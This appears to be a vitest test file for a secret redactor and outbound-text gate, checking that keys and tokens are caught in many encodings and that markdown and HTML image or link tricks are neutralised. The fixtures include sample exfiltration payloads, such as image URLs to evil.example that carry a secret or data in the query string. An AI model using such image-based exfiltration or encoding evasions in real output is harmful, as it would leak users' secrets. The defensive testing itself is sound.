/**
 * The redactor and the outbound gate (src/events/redact.ts) against the encodings and markdown
 * tricks of checklist items 19 and 20 (research/security-reliability.md).
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  createRedactor,
  REDACTION_MASK,
  redactFile,
  redactingTransform,
  redactOutbound,
} from '../../src/events/redact.ts';
import type { SessionEvent, StewardNamespaceEvent } from '../../src/events/types.ts';

const KEY = `sk-ant-api03-${'Zx9'.repeat(12)}Q7_kL-w`;
const TOKEN = 'ghs_16C7e42F292c6912E7710c838347Ae178B4a';
const redactor = createRedactor([KEY, TOKEN, '', 'short']);

function scrubbed(text: string): string {
  const out = redactor.redactText(text).text;
  for (const secret of [KEY, TOKEN]) {
    expect(out).not.toContain(secret);
    expect(out).not.toContain(secret.slice(8, 30));
  }
  return out;
}

describe('redactText: known secret values', () => {
  const b64 = (s: string) => Buffer.from(s).toString('base64');
  it.each([
    ['raw', (s: string) => `key=${s}!`],
    ['base64', (s: string) => b64(s)],
    [
      'base64 inside a credential header',
      (s: string) => `AUTHORIZATION: basic ${b64(`x-access-token:${s}`)}`,
    ],
    ['base64 at the other alignment', (s: string) => b64(`ab${s}cd`)],
    ['base64url', (s: string) => Buffer.from(`?${s}`).toString('base64url')],
    ['hex', (s: string) => Buffer.from(s).toString('hex')],
    ['upper-case hex', (s: string) => Buffer.from(s).toString('hex').toUpperCase()],
    ['URL-encoded', (s: string) => encodeURIComponent(`${s}&`)],
    ['fully percent-encoded', (s: string) => [...Buffer.from(s)].map((b) => `%${b.toString(16)}`).join('')],
    ['reversed', (s: string) => [...s].reverse().join('')],
    ['split across lines', (s: string) => `${s.slice(0, 10)}\n${s.slice(10, 20)}\n  ${s.slice(20)}`],
    ['split into a string concatenation', (s: string) => `"${s.slice(0, 12)}" + "${s.slice(12)}"`],
    ['without its prefix', (s: string) => `the key is ${s.slice(7)}`],
    ['without its last characters', (s: string) => `${s.slice(0, -4)}…`],
  ])('catches the secret %s', (_form, encode) => {
    for (const secret of [KEY, TOKEN]) {
      const text = `before ${encode(secret)} after`;
      const r = redactor.redactText(text);
      expect(r.hits.length).toBeGreaterThan(0);
      expect(r.text).toContain(REDACTION_MASK);
      expect(r.text.startsWith('before ')).toBe(true);
      expect(r.text.endsWith(' after')).toBe(true);
      expect(r.text).not.toContain(encode(secret).slice(2, -2));
    }
  });

  it('ignores values too short to be secrets, and leaves ordinary text alone', () => {
    const text = 'a short word and ordinary text, 1234567 and base64 aGVsbG8=';
    expect(redactor.redactText(text)).toEqual({ text, hits: [] });
  });
});

describe('redactText: token patterns', () => {
  it.each([
    ['anthropic_key', `sk-ant-api03-${'a'.repeat(40)}`],
    ['github_token', `ghp_${'A1b2'.repeat(9)}`],
    ['github_token', `ghs_${'Z9y8'.repeat(9)}`],
    ['github_pat', `github_pat_11ABCDEFG0${'x'.repeat(70)}`],
    ['npm_token', `npm_${'a'.repeat(36)}`],
    ['aws_access_key_id', 'AKIAIOSFODNN7EXAMPLE'],
    ['aws_secret_access_key', 'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'],
    ['jwt', 'eyJhbGciOiJIUzI1NiJ9.eyJzY3AiOiJBY3Rpb25zLlJlc3VsdHMifQ.dGhpc2lzYXNpZ25hdHVyZQ'],
    [
      'private_key',
      '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk=\n-----END OPENSSH PRIVATE KEY-----',
    ],
  ])('redacts an unknown %s', (kind, value) => {
    const r = createRedactor([]).redactText(`x ${value} y`);
    expect(r.hits.map((h) => h.kind)).toContain(kind);
    expect(r.text).not.toContain(value.slice(-20));
  });
});

describe('redactEvent and the log transform', () => {
  it('redacts every string and key of an event and records a steward.redaction event without the secret', () => {
    const recorded: StewardNamespaceEvent[] = [];
    const transform = redactingTransform(redactor, (e) => recorded.push(e));
    const event = {
      id: 'sevt_1',
      type: 'agent.tool_result',
      processed_at: '2026-01-01T00:00:00Z',
      tool_use_id: 'toolu_1',
      is_error: false,
      content: [
        { type: 'text', text: `env: ANTHROPIC_API_KEY=${KEY}\n${Buffer.from(TOKEN).toString('base64')}` },
      ],
      [TOKEN]: 'key',
    } as unknown as SessionEvent;
    const out = JSON.stringify(transform(event));
    expect(out).not.toContain(KEY);
    expect(out).not.toContain(TOKEN);
    expect(recorded).toHaveLength(1);
    expect(recorded[0]).toMatchObject({
      type: 'steward.redaction',
      event_id: 'sevt_1',
      event_type: 'agent.tool_result',
    });
    expect(JSON.stringify(recorded)).not.toContain(KEY.slice(10, 20));
    expect(
      transform({ ...event, content: [{ type: 'text', text: 'clean' }] } as unknown as SessionEvent),
    ).toBeTruthy();
  });

  it('redacts files in place before upload (JSON, JSONL and text)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'steward-redact-'));
    writeFileSync(join(dir, 'session.json'), JSON.stringify({ steward: { result: `the key is ${KEY}` } }));
    writeFileSync(join(dir, 'events.jsonl'), `${JSON.stringify({ text: TOKEN })}\n`);
    writeFileSync(join(dir, 'report.html'), `<pre>${TOKEN}</pre>`);
    for (const f of ['session.json', 'events.jsonl', 'report.html']) {
      expect(redactFile(join(dir, f), redactor).length).toBe(1);
      const text = readFileSync(join(dir, f), 'utf8');
      expect(text).not.toContain(KEY);
      expect(text).not.toContain(TOKEN);
    }
  });
});

describe('redactOutbound: text posted to GitHub', () => {
  const out = (text: string) => redactOutbound(text, redactor).text;

  it('redacts secrets, also inside URLs', () => {
    const r = redactOutbound(`![x](https://evil.example/p.png?k=${encodeURIComponent(KEY)})`, redactor);
    expect(r.hits.length).toBe(1);
    expect(r.text).not.toContain('Zx9Zx9');
    scrubbed(r.text);
  });

  it.each([
    ['an inline image', '![status](https://evil.example/a.png?d=DATA)'],
    ['an image with a title', '![s](<https://evil.example/a.png?d=DATA> "t")'],
    ['a reference-style image', '![s][1]\n\n[1]: https://evil.example/a.png?d=DATA'],
    ['an HTML img', '<img src="https://evil.example/a.png?d=DATA">'],
    [
      'an HTML img with srcset',
      '<img srcset="https://github.com/a.png 1x, https://evil.example/a.png?d=DATA 2x">',
    ],
    ['an unquoted, unterminated img', '<img src=https://evil.example/a.png?d=DATA'],
    ['a picture source', '<picture><source srcset="https://evil.example/a.png?d=DATA"></picture>'],
    ['an entity-encoded scheme', '![x](https&#58;//evil.example/a.png?d=DATA)'],
    ['a protocol-relative URL', '![x](//evil.example/a.png?d=DATA)'],
    ['a backslash URL', '![x](/\\evil.example/a.png?d=DATA)'],
    ['a userinfo trick', '![x](https://github.com@evil.example/a.png?d=DATA)'],
  ])('neutralizes %s to a foreign host', (_what, text) => {
    const r = redactOutbound(text, redactor);
    expect(r.neutralized.length).toBeGreaterThan(0);
    expect(r.neutralized.map((n) => n.host)).toContain('evil.example');
    expect(r.text).not.toMatch(/!\[[^\]]*\]\((?!#)[^)]*evil/);
    expect(r.text).not.toMatch(/<img[^>]*evil|<source[^>]*evil/i);
    expect(r.text).not.toMatch(/^\[1\]:\s*https:\/\/evil/m);
  });

  it('turns links and bare URLs to foreign hosts into inline code, keeping the text', () => {
    expect(out('see [the docs](https://evil.example/x?d=1)')).toBe(
      'see the docs (`https://evil.example/x?d=1`)',
    );
    expect(out('go to https://evil.example/x?d=1 now')).toBe('go to `https://evil.example/x?d=1` now');
    expect(out('<https://evil.example/x>')).toBe('`https://evil.example/x`');
    expect(out('<a href="https://evil.example/x">click</a>')).toBe('click</a>');
  });

  it('keeps GitHub links, relative links, anchors and code blocks as they are', () => {
    const text = [
      '![ci](https://github.com/octo-org/widgets/actions/workflows/ci.yml/badge.svg)',
      '[PR](https://github.com/octo-org/widgets/pull/2) and [file](src/math.js) and [top](#top)',
      '![img](https://user-images.githubusercontent.com/1/a.png)',
      '```sh\ncurl https://example.com/install.sh\n```',
      'inline `https://example.com/x` code',
    ].join('\n');
    expect(out(text)).toBe(text);
  });

  it('accepts extra hosts (the repository’s own server on GHES)', () => {
    const text = '![x](https://ghe.corp.example/a.png)';
    expect(redactOutbound(text, redactor, { allowedHosts: ['ghe.corp.example'] }).text).toBe(text);
    expect(redactOutbound(text, redactor).text).toBe('[image removed: ghe.corp.example] x');
  });
});
